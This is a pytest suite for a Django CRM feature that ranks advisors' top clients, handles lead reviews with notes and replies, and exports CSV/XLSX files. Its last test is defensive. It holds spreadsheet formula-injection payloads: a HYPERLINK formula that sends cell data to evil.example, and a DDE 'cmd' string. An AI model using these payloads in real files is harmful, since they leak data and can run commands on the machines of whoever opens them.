"""P100: each advisor's 100 best clients, the lead's team overview, reviews and exports."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from typing import Any

import pytest
from django.db import connection
from django.test import Client as HttpClient
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from advisor_crm.accounts.models import Team, User
from clients import services as client_services
from clients.models import Client
from scoring import selectors, services
from scoring.models import ClientScore, P100Note, P100Review
from tests.conftest import Cast, logged_in
from tests.factories import make_client, make_score, make_user, make_version

ENGLISH = {"Accept-Language": "en"}


def _scored(owner: User, name: str, score: int, tier: str = "", **fields: Any) -> Client:
    client = make_client(owner=owner, name=name, **fields)
    make_score(client=client, score=score, tier=tier)
    return client


def _rescore(client: Client, score: int) -> None:
    ClientScore.objects.filter(client=client).update(score=score)


def _p100_ids(advisor: User) -> list[int]:
    return [s.client_id for s in selectors.p100(advisor=advisor)]


# The list ------------------------------------------------------------------------------


def test_it_orders_by_score_then_id_for_ties(cast: Cast) -> None:
    make_score(client=cast.advisor_client, score=0)
    c1 = _scored(cast.advisor, "一", 10)
    c2 = _scored(cast.advisor, "二", 20)
    c3 = _scored(cast.advisor, "三", 20)
    c4 = _scored(cast.advisor, "四", -5)
    c5 = _scored(cast.advisor, "五", 20)
    _scored(cast.teammate, "别人的", 99)

    assert _p100_ids(cast.advisor) == [c2.pk, c3.pk, c5.pk, c1.pk, cast.advisor_client.pk, c4.pk]


def test_it_lists_only_active_clients(cast: Cast) -> None:
    make_score(client=cast.advisor_client, score=0)
    archived = _scored(cast.advisor, "归档", 99, archived_at=timezone.now())
    assert archived.pk not in _p100_ids(cast.advisor)
    assert _p100_ids(cast.advisor) == [cast.advisor_client.pk]


def test_it_lists_at_most_a_hundred(cast: Cast) -> None:
    clients = Client.objects.bulk_create(
        Client(owner=cast.advisor, name=f"客户{i:03d}") for i in range(1, 106)
    )
    ClientScore.objects.bulk_create(
        ClientScore(client=client, owner=cast.advisor, score=i)
        for i, client in enumerate(clients, start=1)
    )
    listed = selectors.p100(advisor=cast.advisor)
    assert len(listed) == 100
    assert [s.score for s in listed] == list(range(105, 5, -1))


def test_it_fills_the_list_past_many_archived_clients_at_the_top(cast: Cast) -> None:
    """The best 150 are archived: the list still holds the next 100, in order."""
    archived_at = timezone.now()
    clients = Client.objects.bulk_create(
        Client(
            owner=cast.advisor, name=f"客户{i:03d}", archived_at=archived_at if i > 100 else None
        )
        for i in range(1, 251)
    )
    ClientScore.objects.bulk_create(
        ClientScore(client=client, owner=cast.advisor, score=i)
        for i, client in enumerate(clients, start=1)
    )
    listed = selectors.p100(advisor=cast.advisor)
    assert [s.score for s in listed] == list(range(100, 0, -1))
    rows = selectors.team_overview(lead=cast.lead)
    assert rows[0].advisor == cast.advisor and rows[0].size == 100


def test_it_leaves_out_a_client_moved_to_another_advisor_since_the_rescoring(
    cast: Cast,
) -> None:
    moved = _scored(cast.advisor, "转走", 50)
    Client.objects.filter(pk=moved.pk).update(owner=cast.teammate)
    assert moved.pk not in _p100_ids(cast.advisor)


def test_it_lists_a_client_added_since_the_last_rescoring(cast: Cast) -> None:
    """An advisor's new client must not vanish from their P100 (and from the lead's
    review snapshot and the exports) until an admin publishes again."""
    published = make_version(created_by=cast.admin)
    services.rescore_run(job_id=services.version_publish(version=published, user=cast.admin).pk)
    # Added the way the product adds clients (the new-client form calls this service).
    new = client_services.client_create(data={"name": "新客户", "owner": cast.advisor})

    assert _p100_ids(cast.advisor) == [cast.advisor_client.pk, new.pk]


# The lead's team -----------------------------------------------------------------------


def test_it_shows_a_lead_only_the_advisors_of_their_team(cast: Cast) -> None:
    team = Team.objects.get(lead=cast.lead)
    make_user(username="left", team=team, is_active=False)
    _scored(cast.advisor, "金客", 50, tier="金")
    _scored(cast.advisor, "银客", 20, tier="银")
    make_score(client=cast.advisor_client, score=0, tier="银")
    make_score(client=cast.teammate_client, score=0, tier="银")
    make_score(client=cast.outsider_client, score=0, tier="银")
    services.p100_review_create(
        advisor=cast.advisor, reviewer=cast.lead, comment="好", snapshot=[], notes={}
    )

    rows = selectors.team_overview(lead=cast.lead)

    assert [row.advisor for row in rows] == [cast.advisor, cast.teammate]
    advisor_row, teammate_row = rows
    assert (advisor_row.size, advisor_row.tier_counts) == (3, {"金": 1, "银": 2})
    assert advisor_row.review is not None and advisor_row.review.comment == "好"
    assert (teammate_row.size, teammate_row.review) == (1, None)
    assert [row.advisor for row in selectors.team_overview(lead=cast.other_lead)] == [cast.outsider]


def test_it_shows_the_team_page_to_a_lead(cast: Cast) -> None:
    html = logged_in(cast.lead).get(reverse("scoring:p100"), headers=ENGLISH).content.decode()
    assert "P100 of my team" in html
    for advisor in (cast.advisor, cast.teammate):
        assert str(advisor) in html
        assert reverse("scoring:p100_review", args=[advisor.pk]) in html
    assert str(cast.outsider) not in html
    assert reverse("scoring:p100_review", args=[cast.outsider.pk]) not in html


def test_it_shows_an_advisor_their_own_list(cast: Cast) -> None:
    make_score(client=cast.advisor_client, score=0)
    _scored(
        cast.advisor,
        "王总",
        80,
        tier="钻石",
        last_contact_at=dt.date(2026, 3, 2),
        next_action="送体检报告",
    )
    _scored(cast.teammate, "同事的客户", 99)
    response = logged_in(cast.advisor).get(reverse("scoring:p100"), headers=ENGLISH)
    html = response.content.decode()
    names = re.findall(r'<td><a href="/clients/\d+/">(.*?)</a></td>', html)
    assert names == ["王总", "赵建国"]
    assert "钻石" in html and "2026-03-02" in html and "送体检报告" in html


# Reviews -------------------------------------------------------------------------------


def test_it_signs_off_a_review_with_a_snapshot_and_notes(cast: Cast) -> None:
    top = _scored(cast.advisor, "大客户", 50)
    middle = _scored(cast.advisor, "中客户", 20)
    make_score(client=cast.advisor_client, score=0)
    url = reverse("scoring:p100_review", args=[cast.advisor.pk])

    response = logged_in(cast.lead).post(
        url,
        {
            "comment": "本月重点跟进大客户",
            f"flag_{top.pk}": "on",
            f"note_{top.pk}": " 约见 ",
            f"note_{middle.pk}": "",
            f"note_{cast.advisor_client.pk}": "续保提醒",
        },
    )

    assert response.status_code == 302
    assert response["Location"] == url
    review = P100Review.objects.get()
    assert (review.advisor, review.reviewer, review.comment) == (
        cast.advisor,
        cast.lead,
        "本月重点跟进大客户",
    )
    assert review.snapshot == [top.pk, middle.pk, cast.advisor_client.pk]
    notes = {n.client_id: (n.flagged, n.comment) for n in P100Note.objects.filter(review=review)}
    assert notes == {top.pk: (True, "约见"), cast.advisor_client.pk: (False, "续保提醒")}

    html = logged_in(cast.lead).get(url, headers=ENGLISH).content.decode()
    assert "Last signed off by" in html and "本月重点跟进大客户" in html
    assert f'name="flag_{top.pk}" checked' in html
    assert f'name="note_{cast.advisor_client.pk}" value="续保提醒"' in html


def test_it_shows_who_entered_and_left_since_the_last_review(
    cast: Cast, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(selectors, "P100_SIZE", 2)
    stays = _scored(cast.advisor, "留下", 50)
    leaves = _scored(cast.advisor, "掉出", 40)
    enters = _scored(cast.advisor, "新进", 10)
    url = reverse("scoring:p100_review", args=[cast.advisor.pk])
    lead = logged_in(cast.lead)
    lead.post(url, {"comment": "第一次"})
    assert P100Review.objects.get().snapshot == [stays.pk, leaves.pk]

    # A later rescoring moves one client up and one down.
    _rescore(enters, 45)
    _rescore(leaves, 5)

    html = lead.get(url, headers=ENGLISH).content.decode()
    assert "Since then 1 entered and 1 left the list." in html
    assert '<p class="ok">+ 新进</p>' in html
    assert '<p class="error">− 掉出</p>' in html
    churn = selectors.churn_since(
        current=list(selectors.p100(advisor=cast.advisor)),
        review=selectors.last_review(advisor=cast.advisor),
    )
    assert ([c.pk for c in churn.entered], [c.pk for c in churn.left]) == ([enters.pk], [leaves.pk])


def test_it_shows_no_churn_before_the_first_review(cast: Cast) -> None:
    html = (
        logged_in(cast.lead)
        .get(reverse("scoring:p100_review", args=[cast.advisor.pk]), headers=ENGLISH)
        .content.decode()
    )
    assert "Not reviewed yet." in html
    assert selectors.churn_since(current=[], review=None).entered == []


def test_it_compares_with_the_latest_review_only(cast: Cast) -> None:
    old = services.p100_review_create(
        advisor=cast.advisor, reviewer=cast.lead, comment="旧", snapshot=[], notes={}
    )
    P100Review.objects.filter(pk=old.pk).update(created_at=timezone.now() - dt.timedelta(days=30))
    services.p100_review_create(
        advisor=cast.advisor,
        reviewer=cast.lead,
        comment="新",
        snapshot=[cast.advisor_client.pk],
        notes={},
    )
    review = selectors.last_review(advisor=cast.advisor)
    assert review is not None and review.comment == "新"
    current = [make_score(client=cast.advisor_client, score=0)]
    churn = selectors.churn_since(current=current, review=review)
    assert (churn.entered, churn.left) == ([], [])


# Query counts --------------------------------------------------------------------------


def _count_p100_queries(user: User) -> tuple[int, str]:
    http = logged_in(user)
    http.get(reverse("scoring:p100"))  # warm up: session, language, caches
    with CaptureQueriesContext(connection) as queries:
        response = http.get(reverse("scoring:p100"))
    assert response.status_code == 200
    return len(queries), response.content.decode()


def test_it_keeps_the_advisors_page_at_a_constant_query_count(cast: Cast) -> None:
    services.p100_review_create(
        advisor=cast.advisor, reviewer=cast.lead, comment="", snapshot=[], notes={}
    )
    make_score(client=cast.advisor_client, score=0)
    few, few_html = _count_p100_queries(cast.advisor)
    for index in range(30):
        _scored(
            cast.advisor,
            f"批量{index:02d}",
            index,
            tier="金",
            birth_date=dt.date(1980, 1, 1),
            last_contact_at=dt.date(2026, 1, 1),
        )
    many, many_html = _count_p100_queries(cast.advisor)

    assert "批量29" in many_html and "批量" not in few_html
    assert many == few
    # Session, user, the last review, the list (a probe, then the join for a list
    # shorter than a hundred), the review's notes.
    assert many <= 6


def test_it_keeps_the_leads_page_at_a_constant_query_count(cast: Cast) -> None:
    make_score(client=cast.advisor_client, score=0, tier="银")
    few, few_html = _count_p100_queries(cast.lead)
    team = Team.objects.get(lead=cast.lead)
    for index in range(4):
        member = make_user(username=f"member{index}", team=team, display_name=f"组员{index}")
        for n in range(5):
            _scored(member, f"客户{index}-{n}", n, tier="金" if n else "银")
        services.p100_review_create(
            advisor=member, reviewer=cast.lead, comment="", snapshot=[], notes={}
        )
    many, many_html = _count_p100_queries(cast.lead)

    assert "组员3" in many_html and "组员" not in few_html
    assert many == few
    assert many <= 6


# Exports -------------------------------------------------------------------------------


@pytest.fixture
def listed(cast: Cast) -> list[Client]:
    """The advisor's P100 in order: two new clients above the cast's own."""
    first = _scored(
        cast.advisor,
        "钱多多",
        90,
        tier="钻石",
        annual_income=Decimal("2500000.00"),
        last_contact_at=dt.date(2026, 5, 20),
        next_action="约下周见面",
    )
    second = _scored(cast.advisor, "李一般", 40, tier="黄金")
    make_score(client=cast.advisor_client, score=10, tier="白银")
    return [first, second, Client.objects.get(pk=cast.advisor_client.pk)]


HEADER = [
    "Rank",
    "Name",
    "Tier",
    "Score",
    "Age",
    "Annual income",
    "Industry",
    "CVM stage",
    "Last contact",
    "Next action",
    "Flagged",
    "Lead's comment",
    "Reviewed by",
    "Reviewed at",
    "Advisor's reply",
    "Acknowledged at",
]


def test_it_exports_the_list_to_xlsx(cast: Cast, listed: list[Client]) -> None:
    response = logged_in(cast.advisor).get(
        reverse("scoring:p100_export", args=[cast.advisor.pk, "xlsx"]), headers=ENGLISH
    )

    assert response.status_code == 200
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert re.fullmatch(
        r'attachment; filename="p100-advisor-\d{8}\.xlsx"', response["Content-Disposition"]
    )
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == HEADER
    assert [(r[0], r[1], r[2], r[3]) for r in rows[1:]] == [
        (1, "钱多多", "钻石", 90),
        (2, "李一般", "黄金", 40),
        (3, "赵建国", "白银", 10),
    ]
    first = rows[1]
    assert first[5] == 2_500_000
    assert first[6] == "Computer, internet, electronics, e-commerce"
    assert first[8] == dt.datetime(2026, 5, 20)
    assert first[9] == "约下周见面"


def test_it_exports_the_list_to_csv_with_a_bom(cast: Cast, listed: list[Client]) -> None:
    response = logged_in(cast.advisor).get(
        reverse("scoring:p100_export", args=[cast.advisor.pk, "csv"]), headers=ENGLISH
    )

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == HEADER
    assert [r[:4] for r in rows[1:]] == [
        ["1", "钱多多", "钻石", "90"],
        ["2", "李一般", "黄金", "40"],
        ["3", "赵建国", "白银", "10"],
    ]
    assert rows[1][5] == "2500000.00"
    assert rows[1][8:10] == ["2026-05-20", "约下周见面"]
    assert rows[1][10:] == ["", "", "", "", "", ""]  # not reviewed yet


# The review both ways: the advisor sees the lead's notes and answers them ---------------

HTMX = {"HX-Request": "true", **ENGLISH}


def _review(cast: Cast, notes: dict[int, tuple[bool, str]]) -> P100Review:
    return services.p100_review_create(
        advisor=cast.advisor, reviewer=cast.lead, comment="本月", snapshot=[], notes=notes
    )


def _note(review: P100Review, client: Client) -> P100Note:
    return P100Note.objects.get(review=review, client=client)


def _reply_url(note: P100Note) -> str:
    return reverse("scoring:p100_note_reply", args=[note.pk])


def test_it_shows_the_advisor_the_leads_notes_on_their_list(cast: Cast) -> None:
    flagged = _scored(cast.advisor, "重点", 50)
    make_score(client=cast.advisor_client, score=0)
    review = _review(
        cast, {flagged.pk: (True, "下周约见"), cast.advisor_client.pk: (False, "续保提醒")}
    )

    html = logged_in(cast.advisor).get(reverse("scoring:p100"), headers=ENGLISH).content.decode()

    assert "<th>Lead's note</th>" in html
    assert "2 notes of your lead wait for your acknowledgement." in html
    first = re.search(r">重点</a>.*?</tr>", html, re.S)
    second = re.search(r">赵建国</a>.*?</tr>", html, re.S)
    assert first is not None and second is not None
    assert "Flagged" in first.group(0) and "下周约见" in first.group(0)
    assert "Flagged" not in second.group(0) and "续保提醒" in second.group(0)
    assert _reply_url(_note(review, flagged)) in first.group(0)


def test_it_shows_only_the_last_reviews_notes(cast: Cast) -> None:
    make_score(client=cast.advisor_client, score=0)
    _review(cast, {cast.advisor_client.pk: (True, "旧的提醒")})
    _review(cast, {})

    html = logged_in(cast.advisor).get(reverse("scoring:p100"), headers=ENGLISH).content.decode()

    assert "旧的提醒" not in html and "Flagged" not in html
    assert "wait for your acknowledgement" not in html


def test_it_lets_the_advisor_acknowledge_a_note_with_a_reply(cast: Cast) -> None:
    make_score(client=cast.advisor_client, score=0)
    note = _note(_review(cast, {cast.advisor_client.pk: (True, "下周约见")}), cast.advisor_client)
    http = logged_in(cast.advisor)

    response = http.post(_reply_url(note), {"reply": " 已约周三 ", "back": "p100"}, headers=HTMX)

    assert response.status_code == 200
    html = response.content.decode()
    assert html.lstrip().startswith(f'<div class="p100-note" id="p100-note-{note.pk}">')
    assert "Acknowledged on" in html and "“已约周三”" in html and "Update reply" in html
    note.refresh_from_db()
    assert note.reply == "已约周三" and note.acknowledged_at is not None
    page = http.get(reverse("scoring:p100"), headers=ENGLISH).content.decode()
    assert "wait for your acknowledgement" not in page and "waits for" not in page
    # The lead sees the answer on the review page.
    review_page = logged_in(cast.lead).get(
        reverse("scoring:p100_review", args=[cast.advisor.pk]), headers=ENGLISH
    )
    assert "“已约周三”" in review_page.content.decode()


def test_it_acknowledges_without_a_reply_and_without_javascript(cast: Cast) -> None:
    note = _note(_review(cast, {cast.advisor_client.pk: (True, "")}), cast.advisor_client)

    to_list = logged_in(cast.advisor).post(_reply_url(note), {"reply": ""})
    to_client = logged_in(cast.advisor).post(_reply_url(note), {"reply": "", "back": "client"})

    assert (to_list.status_code, to_list["Location"]) == (303, reverse("scoring:p100"))
    assert to_client["Location"] == reverse("clients:detail", args=[cast.advisor_client.pk])
    note.refresh_from_db()
    assert note.acknowledged_at is not None and note.reply == ""


def test_it_refuses_an_over_long_reply_next_to_the_field(cast: Cast) -> None:
    note = _note(_review(cast, {cast.advisor_client.pk: (True, "")}), cast.advisor_client)
    http = logged_in(cast.advisor)

    htmx = http.post(_reply_url(note), {"reply": "长" * 201}, headers=HTMX)
    plain = http.post(_reply_url(note), {"reply": "长" * 201}, headers=ENGLISH)

    assert htmx.status_code == 200
    assert f'id="p100-note-{note.pk}-error" role="alert"' in htmx.content.decode()
    assert "at most 200 characters" in htmx.content.decode()
    assert plain.status_code == 400
    note.refresh_from_db()
    assert note.acknowledged_at is None and note.reply == ""


@pytest.mark.parametrize("role", ["teammate", "outsider", "lead", "other_lead", "admin"])
def test_it_lets_only_the_advisor_answer_a_note(cast: Cast, role: str) -> None:
    note = _note(_review(cast, {cast.advisor_client.pk: (True, "约见")}), cast.advisor_client)

    response = logged_in(getattr(cast, role)).post(_reply_url(note), {"reply": "越权"})

    assert response.status_code == 404
    assert "约见" not in response.content.decode()
    note.refresh_from_db()
    assert note.acknowledged_at is None and note.reply == ""


def test_it_refuses_a_reply_once_the_client_moved_to_another_advisor(cast: Cast) -> None:
    note = _note(_review(cast, {cast.advisor_client.pk: (True, "约见")}), cast.advisor_client)
    Client.objects.filter(pk=cast.advisor_client.pk).update(owner=cast.teammate)

    for user in (cast.advisor, cast.teammate):
        assert logged_in(user).post(_reply_url(note), {"reply": "x"}).status_code == 404


def test_it_guards_the_reply_url(cast: Cast) -> None:
    """The access matrix of the reply URL: anonymous, wrong method, unknown id, no CSRF."""
    note = _note(_review(cast, {cast.advisor_client.pk: (True, "约见")}), cast.advisor_client)
    url = _reply_url(note)

    anonymous = HttpClient().post(url, {"reply": "匿名"})
    wrong_method = logged_in(cast.advisor).get(url)
    unknown = logged_in(cast.advisor).post(
        reverse("scoring:p100_note_reply", args=[note.pk + 1000]), {"reply": "x"}
    )
    csrf_checked = HttpClient(enforce_csrf_checks=True)
    csrf_checked.force_login(cast.advisor)
    no_token = csrf_checked.post(url, {"reply": "x"})

    assert anonymous.status_code == 302 and anonymous["Location"].startswith(reverse("login"))
    assert (wrong_method.status_code, unknown.status_code, no_token.status_code) == (405, 404, 403)
    note.refresh_from_db()
    assert note.acknowledged_at is None


def test_it_keeps_the_answer_when_the_lead_signs_off_the_same_note_again(cast: Cast) -> None:
    other = _scored(cast.advisor, "另一位", 5)
    first = _review(cast, {cast.advisor_client.pk: (True, "约见"), other.pk: (True, "电话")})
    for client in (cast.advisor_client, other):
        services.p100_note_acknowledge(note=_note(first, client), reply="好的")

    second = _review(cast, {cast.advisor_client.pk: (True, "约见"), other.pk: (True, "改为面谈")})

    kept, changed = _note(second, cast.advisor_client), _note(second, other)
    assert (kept.reply, kept.acknowledged_at) == (
        "好的",
        _note(first, cast.advisor_client).acknowledged_at,
    )
    assert (changed.reply, changed.acknowledged_at) == ("", None)


def test_it_shows_the_note_on_the_client_page(cast: Cast) -> None:
    _review(cast, {cast.advisor_client.pk: (True, "下周约见")})
    url = reverse("clients:detail", args=[cast.advisor_client.pk])

    own = logged_in(cast.advisor).get(url, headers=ENGLISH).content.decode()
    lead = logged_in(cast.lead).get(url, headers=ENGLISH).content.decode()

    for html in (own, lead):
        assert 'id="p100-review-note"' in html and "下周约见" in html and "Flagged" in html
        assert f"Note by {cast.lead}" in html
    assert 'name="back" value="client"' in own and "Acknowledge" in own
    assert "p100_note_reply" not in lead and 'name="reply"' not in lead
    assert "Not acknowledged yet." in lead


def test_it_leaves_the_note_off_the_page_of_a_client_since_moved(cast: Cast) -> None:
    _review(cast, {cast.advisor_client.pk: (True, "下周约见")})
    Client.objects.filter(pk=cast.advisor_client.pk).update(owner=cast.teammate)

    html = (
        logged_in(cast.teammate)
        .get(reverse("clients:detail", args=[cast.advisor_client.pk]), headers=ENGLISH)
        .content.decode()
    )

    assert "下周约见" not in html and 'id="p100-review-note"' not in html


def test_it_exports_the_notes_with_who_when_and_the_answer(
    cast: Cast, listed: list[Client]
) -> None:
    review = _review(cast, {listed[0].pk: (True, "重点跟进"), listed[2].pk: (False, "续保")})
    P100Review.objects.filter(pk=review.pk).update(
        created_at=dt.datetime(2026, 6, 1, 1, 30, tzinfo=dt.UTC)
    )
    note = _note(review, listed[0])
    services.p100_note_acknowledge(note=note, reply="已约")
    P100Note.objects.filter(pk=note.pk).update(
        acknowledged_at=dt.datetime(2026, 6, 2, 2, 5, tzinfo=dt.UTC)
    )
    http = logged_in(cast.lead)
    csv_response = http.get(
        reverse("scoring:p100_export", args=[cast.advisor.pk, "csv"]), headers=ENGLISH
    )
    xlsx_response = http.get(
        reverse("scoring:p100_export", args=[cast.advisor.pk, "xlsx"]), headers=ENGLISH
    )

    # Shanghai time (the project's TIME_ZONE): UTC 01:30 is 09:30, 02:05 is 10:05.
    rows = list(csv.reader(io.StringIO(csv_response.content.decode("utf-8-sig"))))
    lead = str(cast.lead)
    assert rows[1][10:] == ["Yes", "重点跟进", lead, "2026-06-01 09:30", "已约", "2026-06-02 10:05"]
    assert rows[2][10:] == ["", "", "", "", "", ""]
    assert rows[3][10:] == ["No", "续保", lead, "2026-06-01 09:30", "", ""]
    sheet = load_workbook(io.BytesIO(xlsx_response.content)).active
    assert sheet is not None
    first = next(sheet.iter_rows(min_row=2, max_row=2, values_only=True))
    assert first[10:] == (
        "Yes", "重点跟进", lead, dt.datetime(2026, 6, 1, 9, 30), "已约", dt.datetime(2026, 6, 2, 10, 5),
    )  # fmt: skip


def test_it_keeps_the_advisors_page_with_notes_at_a_constant_query_count(cast: Cast) -> None:
    make_score(client=cast.advisor_client, score=0)
    _review(cast, {cast.advisor_client.pk: (True, "一条")})
    few, few_html = _count_p100_queries(cast.advisor)
    clients = [_scored(cast.advisor, f"批量{i:02d}", i + 1) for i in range(20)]
    review = _review(cast, {c.pk: (True, f"要点{c.name}") for c in clients})
    for client in clients[:10]:
        services.p100_note_acknowledge(note=_note(review, client), reply="收到")
    many, many_html = _count_p100_queries(cast.advisor)

    assert "要点批量19" in many_html and "收到" in many_html and "要点" not in few_html
    assert "团队长有 10 条批注等待你回应。" in many_html  # the page's default, Chinese
    assert many == few
    # Session, user, the last review, the list (a probe, then the join), its notes.
    assert many <= 6


# Exports are safe to open: typed text never becomes a live formula ---------------------

EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def test_it_exports_a_formula_looking_name_and_notes_as_text(cast: Cast) -> None:
    client = _scored(
        cast.advisor,
        EVIL_NAME,
        -5,
        annual_income=Decimal("1200.50"),
        next_action="+1+cmd|' /C calc'!A0",
    )
    review = _review(cast, {client.pk: (True, "@SUM(1+1)*cmd")})
    services.p100_note_acknowledge(note=_note(review, client), reply="-2+3")
    http = logged_in(cast.lead)
    csv_response = http.get(
        reverse("scoring:p100_export", args=[cast.advisor.pk, "csv"]), headers=ENGLISH
    )
    xlsx_response = http.get(
        reverse("scoring:p100_export", args=[cast.advisor.pk, "xlsx"]), headers=ENGLISH
    )

    # The evil client scores lowest, so it is the last row of both files.
    row = list(csv.reader(io.StringIO(csv_response.content.decode("utf-8-sig"))))[-1]
    assert row[1] == "'" + EVIL_NAME
    assert row[3] == "-5" and row[5] == "1200.50"  # numbers stay numbers, unquoted
    assert row[9] == "'+1+cmd|' /C calc'!A0"
    assert row[11] == "'@SUM(1+1)*cmd"
    assert row[14] == "'-2+3"
    sheet = load_workbook(io.BytesIO(xlsx_response.content)).active
    assert sheet is not None
    last = next(sheet.iter_rows(min_row=sheet.max_row, max_row=sheet.max_row))
    assert last[1].value == "'" + EVIL_NAME
    assert last[1].data_type == "s"  # a string, not a formula ("f")
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
    assert last[3].value == -5 and last[5].value == 1200.5
    assert last[9].value == "'+1+cmd|' /C calc'!A0"
    assert (last[11].value, last[14].value) == ("'@SUM(1+1)*cmd", "'-2+3")
